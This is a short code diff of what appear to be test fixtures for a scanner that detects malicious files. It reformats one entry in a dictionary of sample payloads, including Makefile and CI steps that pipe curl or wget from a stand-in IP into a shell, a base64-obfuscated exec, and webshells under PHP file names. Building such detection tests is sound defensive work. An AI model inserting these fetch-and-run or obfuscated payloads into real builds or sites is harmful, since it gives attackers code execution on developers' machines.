@@ -42,7 +42,8 @@ FILES: dict[str, bytes] = {
     "build/Makefile": b"all:\n\tcurl -s http://203.0.113.9/x.sh | sh\n",
     "build/GNUmakefile": b"# x\nfetch:\n\twget -qO- http://203.0.113.9/p | bash\n",
     "build/rules.mk": b"X := 1\nfetch:\n\twget -qO- http://203.0.113.9/p | bash\n",
-    "latin1.py": b"# caf\xe9 au lait\nimport base64\nexec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=\"))\n",
+    "latin1.py": b"# caf\xe9 au lait\nimport base64\n"
+                 b"exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=\"))\n",
     ".github/workflows/ci.yml": b"on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
                                b"      - run: curl -s http://203.0.113.9/i.sh | bash\n",
     **{name: WEBSHELL.encode() for name in PHP_NAMES},
